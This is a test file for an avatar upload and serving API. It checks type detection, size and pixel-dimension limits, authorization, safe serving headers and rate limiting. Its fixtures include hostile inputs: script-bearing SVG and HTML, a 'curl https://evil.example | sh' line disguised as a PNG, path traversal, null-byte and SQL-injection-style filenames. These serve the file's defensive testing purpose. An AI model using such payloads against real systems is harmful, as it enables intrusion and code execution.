import { describe, expect, test } from 'bun:test'
import { compileErrors, validate } from '@readme/openapi-parser'
import { deflateSync } from 'node:zlib'
import { AgentConfigs } from '../../src/agents/configs.ts'
import { AVATAR_PATH, mountAvatars } from '../../src/api/avatars/index.ts'
import { apiThrottle } from '../../src/throttle/api.ts'
import { callOperation, judgeWithoutCredentials, operationsOf, type OpenApiDocument } from '../helpers/openapi.ts'
import { startTestPlatform, useStarted, type Principal, type TestPlatform } from '../helpers/platform.ts'
import { expectProblem } from '../helpers/problem.ts'

// ---- Real, minimal pictures (each decodes in a browser), built here so every byte is in view. ----

type Bytes = Uint8Array<ArrayBuffer>

const text = (s: string) => [...new TextEncoder().encode(s)]
const be32 = (n: number) => [(n >>> 24) & 255, (n >>> 16) & 255, (n >>> 8) & 255, n & 255]
const le32 = (n: number) => [n & 255, (n >>> 8) & 255, (n >>> 16) & 255, (n >>> 24) & 255]

function pngChunk(type: string, data: number[] | Uint8Array): number[] {
  const body = new Uint8Array([...text(type), ...data])
  return [...be32(data.length), ...body, ...be32(Bun.hash.crc32(body))]
}

/** An RGB PNG whose header says width × height; the pixel data is only ever a few rows, so a huge claim stays tiny. */
function png(width: number, height: number): Bytes {
  const rows = new Uint8Array(Math.min(height, 4) * (1 + Math.min(width, 4) * 3))
  return new Uint8Array([
    ...[0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
    ...pngChunk('IHDR', [...be32(width), ...be32(height), 8, 2, 0, 0, 0]),
    ...pngChunk('IDAT', deflateSync(rows)),
    ...pngChunk('IEND', []),
  ])
}

/** A 1×1 GIF: header, screen, a two-colour table, one image of one pixel, trailer. */
const GIF = new Uint8Array([...text('GIF89a'), 1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b])

const segment = (marker: number, data: number[]) => [0xff, marker, ((data.length + 2) >> 8) & 255, (data.length + 2) & 255, ...data]
/** A 1×1 grey baseline JPEG: one-symbol Huffman tables, so the single block is two one-bit codes (DC 0, end of block). */
const JPEG = new Uint8Array([
  0xff, 0xd8,
  ...segment(0xe0, [...text('JFIF'), 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]),
  ...segment(0xdb, [0, ...new Array(64).fill(1)]),
  ...segment(0xc0, [8, 0, 1, 0, 1, 1, 1, 0x11, 0]),
  ...segment(0xc4, [0x00, 1, ...new Array(15).fill(0), 0]),
  ...segment(0xc4, [0x10, 1, ...new Array(15).fill(0), 0]),
  ...segment(0xda, [1, 1, 0x00, 0, 63, 0]),
  0x3f, 0xff, 0xd9,
])

function webp(fourcc: string, payload: number[]): Bytes {
  const padded = payload.length % 2 ? [...payload, 0] : payload
  const chunk = [...text(fourcc), ...le32(payload.length), ...padded]
  return new Uint8Array([...text('RIFF'), ...le32(4 + chunk.length), ...text('WEBP'), ...chunk])
}
/** A 1×1 lossless WebP. */
const WEBP = webp('VP8L', [0x2f, 0, 0, 0, 0x10, 0x07, 0x10, 0x11, 0x11, 0x88, 0x88, 0xfe, 0x07])
/** An extended WebP whose canvas claims 10000 × 10000. */
const HUGE_WEBP = webp('VP8X', [0, 0, 0, 0, ...le32(9999).slice(0, 3), ...le32(9999).slice(0, 3)])

// ---- The platform, with the avatar routes on its api app even before app.ts mounts them. ----

interface Suite {
  p: TestPlatform
  close(): Promise<void>
}

async function startWithAvatars(env: Record<string, string> = {}): Promise<Suite> {
  const p = await startTestPlatform(env)
  // Before any request: Hono's router takes no routes once it has matched one.
  if (!p.api.routes.some((r) => r.method === 'PUT' && r.path === AVATAR_PATH)) mountAvatars(p.api, apiThrottle(p.services))
  return { p, close: () => p.close() }
}

const suite = useStarted(() => startWithAvatars())
const p = () => suite().p

function upload(bytes: Bytes | string, name = 'me.png', as?: Principal | null, type = 'application/octet-stream') {
  const form = new FormData()
  form.set('file', new File([bytes], name, { type }))
  return p().call('PUT', AVATAR_PATH, { body: form, ...(as === undefined ? {} : { as }) })
}

/** The raw answer for a file: its bytes as they came, not text. */
async function fetchFile(path: string) {
  const response = await p().api.request(path)
  return { status: response.status, headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) }
}

const avatarOf = async (userId: string) => (await p().store.db.selectFrom('users').select('avatar').where('id', '=', userId).executeTakeFirstOrThrow()).avatar
const storedRows = async (userId: string) =>
  (await p().store.db.selectFrom('user_avatars').select(['id', 'media_type']).where('user_id', '=', userId).execute())

describe('accepted pictures', () => {
  test.each([
    ['PNG', png(3, 2), 'image/png', 'png'],
    ['JPEG', JPEG, 'image/jpeg', 'jpg'],
    ['GIF', GIF, 'image/gif', 'gif'],
    ['WebP', WEBP, 'image/webp', 'webp'],
  ] as const)('a %s is stored, set as the avatar, and served as it came with its type, sandboxed', async (_, bytes, type, ext) => {
    const user = await p().createUser()
    const reply = await upload(bytes, `picture.${ext}`, user)
    expect(reply.status).toBe(200)
    const avatar: string = reply.body.avatar
    expect(avatar).toMatch(new RegExp(`^/static/avatars/[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}\\.${ext}$`))
    expect((await p().call('GET', `/api/v1/User/${user.userId}`, { as: user })).body.avatar).toBe(avatar)

    // Anyone with the address sees it: no credentials.
    const served = await fetchFile(avatar)
    expect(served.status).toBe(200)
    expect(served.bytes).toEqual(bytes)
    expect(served.headers.get('content-type')).toBe(type)
    expect(served.headers.get('x-content-type-options')).toBe('nosniff')
    expect(served.headers.get('content-security-policy')).toBe("default-src 'none'; sandbox")
    expect(served.headers.get('cache-control')).toBe('public, max-age=31536000, immutable')
  })

  test('the type comes from the bytes: a PNG sent as evil.html with text/html is a PNG', async () => {
    const user = await p().createUser()
    const reply = await upload(png(1, 1), 'evil.html', user, 'text/html')
    expect(reply.status).toBe(200)
    expect(reply.body.avatar).toEndWith('.png')
    expect((await fetchFile(reply.body.avatar)).headers.get('content-type')).toBe('image/png')
  })

  test('an upload changes the user’s version, so an edit form opened before it is refused (412)', async () => {
    const user = await p().createUser()
    const before = (await p().call('GET', `/api/v1/User/${user.userId}`, { as: user })).headers.get('etag')!
    expect((await upload(GIF, 'a.gif', user)).status).toBe(200)
    const stale = await p().call('PATCH', `/api/v1/User/${user.userId}`, { as: user, json: { display_name: 'Late' }, headers: { 'if-match': before } })
    expectProblem(stale, 412, 'precondition_failed')
  })
})

describe('refused files never become an avatar', () => {
  const attacks: Array<[string, Bytes | string, string]> = [
    ['an SVG with a script', '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>', 'me.svg'],
    ['an SVG named .png', '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'me.png'],
    ['an HTML page', '<!doctype html><html><body><script>fetch("/api/me")</script></body></html>', 'me.html'],
    ['a shell script named .png', '#!/bin/sh\ncurl https://evil.example | sh\n', 'me.png'],
    ['a PDF', '%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF', 'me.jpg'],
  ]
  test.each(attacks)('%s: 415, and nothing is stored', async (_, bytes, name) => {
    const user = await p().createUser()
    expect((await upload(GIF, 'first.gif', user)).status).toBe(200)
    const before = await avatarOf(user.userId)
    const refused = expectProblem(await upload(bytes, name, user, 'image/png'), 415, 'unsupported_media_type')
    expect(refused.detail).toContain('PNG, JPEG, GIF or WebP')
    expect(await avatarOf(user.userId)).toBe(before)
    expect((await storedRows(user.userId)).map((r) => r.media_type)).toEqual(['image/gif'])
  })

  test('a picture claiming 100000×100000 pixels is refused by its header (422 on the file field)', async () => {
    const user = await p().createUser()
    const bomb = png(100_000, 100_000)
    expect(bomb.length).toBeLessThan(200)
    const refused = expectProblem(await upload(bomb, 'bomb.png', user), 422, 'validation_error')
    expect(refused.errors).toEqual([{ path: 'file', message: expect.stringContaining('100000×100000') }])
    expectProblem(await upload(HUGE_WEBP, 'bomb.webp', user), 422, 'validation_error')
    expectProblem(await upload(png(4097, 1), 'wide.png', user), 422, 'validation_error')
    expect((await upload(png(4096, 4096), 'largest.png', user)).status).toBe(200)
    expect((await storedRows(user.userId)).length).toBe(1)
  })

  test('a damaged picture whose header cannot be read is 422; an empty file too', async () => {
    const user = await p().createUser()
    // Cut right after the IHDR chunk's name: still a PNG by its signature, but the size is not there.
    expectProblem(await upload(png(1, 1).slice(0, 16), 'cut.png', user), 422, 'validation_error')
    expectProblem(await upload(GIF.slice(0, 6), 'cut.gif', user), 422, 'validation_error')
    expectProblem(await upload(new Uint8Array([0xff, 0xd8, 0xff, 0xd9]), 'cut.jpg', user), 422, 'validation_error')
    expectProblem(await upload('', 'empty.png', user), 422, 'validation_error')
    expect(await avatarOf(user.userId)).toBeNull()
  })

  test('a file over 256 KiB is 413, and so is a form whose file part is over it', async () => {
    const user = await p().createUser()
    // A real PNG header followed by padding: only its size is wrong.
    const big = new Uint8Array(256 * 1024 + 1)
    big.set(png(1, 1))
    expectProblem(await upload(big, 'big.png', user), 413, 'payload_too_large')
    const wayTooBig = new Uint8Array(600 * 1024)
    wayTooBig.set(png(1, 1))
    expectProblem(await upload(wayTooBig, 'bigger.png', user), 413, 'payload_too_large')
    expect(await storedRows(user.userId)).toEqual([])
  })

  test('an endless streamed body is refused while it is read, long before it ends', async () => {
    const user = await p().createUser()
    let sent = 0
    const chunk = new Uint8Array(16 * 1024).fill(0x41)
    const endless = new ReadableStream<Uint8Array>({
      pull(controller) {
        if (sent >= 64 * 1024 * 1024) return controller.close()
        sent += chunk.length
        controller.enqueue(chunk)
      },
    })
    const reply = await p().call('PUT', AVATAR_PATH, { as: user, body: endless, headers: { 'content-type': 'multipart/form-data; boundary=x' } })
    expectProblem(reply, 413, 'payload_too_large')
    // At most the api app's general body limit (1 MiB) is read before a limit stops it: never the 64 MiB.
    expect(sent).toBeLessThan(2 * 1024 * 1024)
  })

  test('a body that is not a form is 415; a form without the file is 422', async () => {
    const user = await p().createUser()
    expectProblem(await p().call('PUT', AVATAR_PATH, { as: user, json: { file: 'iVBORw0KGgo=' } }), 415, 'unsupported_media_type')
    const form = new FormData()
    form.set('file', 'not a file')
    const missing = expectProblem(await p().call('PUT', AVATAR_PATH, { as: user, body: form }), 422, 'validation_error')
    expect(missing.errors?.[0]?.path).toBe('file')
  })
})

describe('who may do what', () => {
  test('without credentials: 401 for upload and removal, before the body is looked at', async () => {
    expectProblem(await upload(png(1, 1), 'me.png', null), 401, 'unauthorized')
    expectProblem(await p().call('PUT', AVATAR_PATH, { as: null, body: 'x', headers: { 'content-type': 'text/plain' } }), 401, 'unauthorized')
    expectProblem(await p().call('DELETE', AVATAR_PATH, { as: null }), 401, 'unauthorized')
  })

  test('a dead token is 401 too', async () => {
    expectProblem(await p().call('PUT', AVATAR_PATH, { as: null, body: new FormData(), headers: { authorization: 'Bearer sb_not_a_real_token' } }), 401, 'unauthorized')
  })

  test('removing is 204: the avatar is cleared, the picture is gone, others’ pictures stay', async () => {
    const me = await p().createUser()
    // Someone of another company, whose picture must survive whatever I do.
    const stranger = await p().createUser({ companyId: await p().createCompany() })
    const mine = (await upload(png(2, 2), 'me.png', me)).body.avatar
    const theirs = (await upload(GIF, 'them.gif', stranger)).body.avatar

    const removed = await p().call('DELETE', AVATAR_PATH, { as: me })
    expect(removed.status).toBe(204)
    expect(await avatarOf(me.userId)).toBeNull()
    expect((await fetchFile(mine)).status).toBe(404)
    expect(await storedRows(me.userId)).toEqual([])

    // The route is /me only: there is no way to name the stranger's picture, and it is untouched.
    expect(await avatarOf(stranger.userId)).toBe(theirs)
    expect((await fetchFile(theirs)).status).toBe(200)
    expect((await p().call('DELETE', `${AVATAR_PATH}?user_id=${stranger.userId}`, { as: me })).status).toBe(204)
    expect((await p().call('DELETE', `/static/avatars/${theirs.split('/').pop()}`, { as: me })).status).toBeOneOf([404, 405])
    expect((await fetchFile(theirs)).status).toBe(200)

    // Removing again changes nothing and says so the same way.
    expect((await p().call('DELETE', AVATAR_PATH, { as: me })).status).toBe(204)
  })

  test('removing also clears an http(s) address set through the User record', async () => {
    const me = await p().createUser()
    expect((await p().call('PATCH', `/api/v1/User/${me.userId}`, { as: me, json: { avatar: 'https://pictures.example/me.png' } })).status).toBe(200)
    expect((await p().call('DELETE', AVATAR_PATH, { as: me })).status).toBe(204)
    expect(await avatarOf(me.userId)).toBeNull()
  })

  test('a new picture replaces the old one: a new address, and the old picture is deleted', async () => {
    const me = await p().createUser()
    const first = (await upload(png(1, 1), 'one.png', me)).body.avatar
    const second = (await upload(png(1, 1), 'one.png', me)).body.avatar
    expect(second).not.toBe(first)
    expect((await fetchFile(first)).status).toBe(404)
    expect((await fetchFile(second)).status).toBe(200)
    expect((await storedRows(me.userId)).map((r) => `/static/avatars/${r.id}.png`)).toEqual([second])
  })

  test('uploads of one person at the same time leave exactly one picture, the one the avatar names', async () => {
    const me = await p().createUser()
    const replies = await Promise.all([png(1, 1), GIF, WEBP, JPEG].map((bytes, i) => upload(bytes, `p${i}`, me)))
    expect(replies.map((r) => r.status)).toEqual([200, 200, 200, 200])
    const rows = await storedRows(me.userId)
    expect(rows.length).toBe(1)
    const avatar = await avatarOf(me.userId)
    expect(avatar).toStartWith(`/static/avatars/${rows[0]!.id}.`)
    expect((await fetchFile(avatar!)).status).toBe(200)
  })
})

describe('serving', () => {
  test('unknown and malformed names are 404 problems, and never reach the disk', async () => {
    const me = await p().createUser()
    const avatar: string = (await upload(JPEG, 'me.jpg', me)).body.avatar
    const id = avatar.slice('/static/avatars/'.length, -'.jpg'.length)
    const names = [
      `${crypto.randomUUID()}.png`,
      `${id}.png`, // the right id with another type's extension
      `${id.toUpperCase()}.jpg`,
      `${id}.jpg.svg`,
      `${id}`,
      'x.png',
      '..%2F..%2Fpackage.json',
      '%2e%2e',
      `${id}.jpg%00.png`,
      "'%20OR%201=1--.png",
    ]
    for (const name of names) {
      const reply = await p().call('GET', `/static/avatars/${name}`, { as: null })
      expect(reply.status, name).toBe(404)
      expect(reply.headers.get('content-type'), name).toBe('application/problem+json')
    }
    for (const path of ['/static/avatars/../../package.json', '/static/avatars/', '/static/avatars/a/b.png']) {
      const reply = await p().call('GET', path, { as: null })
      expect(reply.status, path).toBe(404)
      expect(JSON.stringify(reply.body)).not.toContain('"name": "switchboard"')
    }
    expect((await fetchFile(avatar)).status).toBe(200)
  })
})

describe('an agent’s picture', () => {
  const agentPath = (id: string) => `/api/agents/${id}/avatar`
  const putFor = async (id: string, bytes: Bytes | string, as?: Principal | null) => {
    const form = new FormData()
    form.set('file', new File([bytes], 'agent.png'))
    const reply = await p().call('PUT', agentPath(id), { body: form, ...(as === undefined ? {} : { as }) })
    return reply as typeof reply & { body: { avatar: string } }
  }
  const newAgent = async (as?: Principal) => (await p().call('POST', '/api/v1/AgentConfigRecord', { json: { name: `pictured-${crypto.randomUUID().slice(0, 8)}` }, ...(as ? { as } : {}) })).body.id as string

  test('an admin sets it: the agent’s avatar names it, it is served, and a new one replaces it', async () => {
    const id = await newAgent()
    const first = await putFor(id, png(2, 2))
    expect(first.status).toBe(200)
    expect((await p().call('GET', `/api/v1/AgentConfigRecord/${id}`)).body.avatar).toBe(first.body.avatar)
    expect((await fetchFile(first.body.avatar)).bytes).toEqual(png(2, 2))
    const second = await putFor(id, GIF)
    expect(second.body.avatar).not.toBe(first.body.avatar)
    expect((await fetchFile(first.body.avatar)).status).toBe(404)
    expect(await p().store.db.selectFrom('user_avatars').select('id').where('agent_id', '=', id).execute()).toHaveLength(1)

    expect((await p().call('DELETE', agentPath(id))).status).toBe(204)
    expect((await p().call('GET', `/api/v1/AgentConfigRecord/${id}`)).body.avatar).toBeNull()
    expect((await fetchFile(second.body.avatar)).status).toBe(404)
  })

  test('a new picture and its removal are what the next read of the agent for a turn sees, though it was cached', async () => {
    const id = await newAgent()
    const { db, clock, events } = p().services
    const agents = new AgentConfigs(db, clock, events)
    const root = { userId: p().root.userId, companyId: p().root.companyId, role: 'owner', isSuperadmin: true } as const
    expect((await agents.get(root, id)).avatar).toBeNull()
    const put = await putFor(id, GIF)
    expect((await agents.get(root, id)).avatar).toBe(put.body.avatar)
    expect((await p().call('DELETE', agentPath(id))).status).toBe(204)
    expect((await agents.get(root, id)).avatar).toBeNull()
  })

  test('the avatar is not a field anyone writes: a PATCH cannot point it elsewhere', async () => {
    const id = await newAgent()
    const patched = await p().call('PATCH', `/api/v1/AgentConfigRecord/${id}`, { json: { avatar: 'https://tracker.example/pixel.gif' } })
    expect(patched.status).toBe(422)
    expect((await p().call('GET', `/api/v1/AgentConfigRecord/${id}`)).body.avatar).toBeNull()
  })

  test('bad files, strangers, members and other companies are refused, and nothing is stored', async () => {
    const id = await newAgent()
    expectProblem(await putFor(id, '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'), 415, 'unsupported_media_type')
    expectProblem(await putFor(id, png(5000, 5000)), 422, 'validation_error')
    expectProblem(await putFor(id, GIF, null), 401, 'unauthorized')
    const member = await p().createUser()
    expectProblem(await putFor(id, GIF, member), 403, 'forbidden')
    expectProblem(await p().call('DELETE', agentPath(id), { as: member }), 403, 'forbidden')
    const otherCompany = await p().createCompany()
    const stranger = await p().createUser({ companyId: otherCompany, role: 'admin' })
    expectProblem(await putFor(id, GIF, stranger), 404, 'not_found')
    expectProblem(await p().call('DELETE', agentPath(id), { as: stranger }), 404, 'not_found')
    expectProblem(await putFor('not-an-id', GIF), 404, 'not_found')
    expectProblem(await putFor(crypto.randomUUID(), GIF), 404, 'not_found')
    expect((await p().call('GET', `/api/v1/AgentConfigRecord/${id}`)).body.avatar).toBeNull()
    expect(await p().store.db.selectFrom('user_avatars').select('id').where('agent_id', '=', id).execute()).toHaveLength(0)
  })

  test('the picture goes with its agent', async () => {
    const id = await newAgent()
    const { avatar } = (await putFor(id, GIF)).body
    expect((await p().call('DELETE', `/api/v1/AgentConfigRecord/${id}`)).status).toBe(204)
    expect((await fetchFile(avatar)).status).toBe(404)
  })
})

describe('the OpenAPI document', () => {
  test('names the five operations, the picture public and the rest behind sign-in, and stays valid', async () => {
    const document = (await p().call('GET', '/api/openapi.json', { as: null })).body as OpenApiDocument
    const result = await validate(structuredClone(document) as never)
    if (!result.valid) throw new Error(compileErrors(result))
    const mine = operationsOf(document).filter((op) => op.label.includes('/avatar'))
    expect(mine.map((op) => op.label).sort()).toEqual(['DELETE /api/agents/{id}/avatar', 'DELETE /api/me/avatar', 'GET /static/avatars/{file}', 'PUT /api/agents/{id}/avatar', 'PUT /api/me/avatar'])
    expect(document.paths['/static/avatars/{file}']!.get.security).toEqual([])
    expect(Object.keys(document.paths['/api/me/avatar']!.put.requestBody.content)).toEqual(['multipart/form-data'])
    // What the platform-wide sweep checks of every operation, for these five.
    for (const op of mine) {
      const anonymous = await callOperation(p(), document, op, { caller: null })
      expect(judgeWithoutCredentials(op.schemes.length > 0, anonymous), op.label).toEqual([])
    }
  })
})

describe('throttle', () => {
  const tight = useStarted(() => startWithAvatars({ SWITCHBOARD_API_RATE_BURST: '3', SWITCHBOARD_API_RATE_PER_SECOND: '0.01' }), 'the throttled platform')

  test('uploads draw from the API bucket: past the burst, 429 with Retry-After', async () => {
    const q = tight().p
    const me = await q.createUser()
    const put = () => {
      const form = new FormData()
      form.set('file', new File([GIF], 'a.gif'))
      return q.call('PUT', AVATAR_PATH, { as: me, body: form })
    }
    for (let i = 0; i < 3; i++) expect((await put()).status).toBe(200)
    const limited = expectProblem(await put(), 429, 'rate_limited')
    expect(limited.detail.length).toBeGreaterThan(0)
    expectProblem(await q.call('DELETE', AVATAR_PATH, { as: me }), 429, 'rate_limited')
  })
})
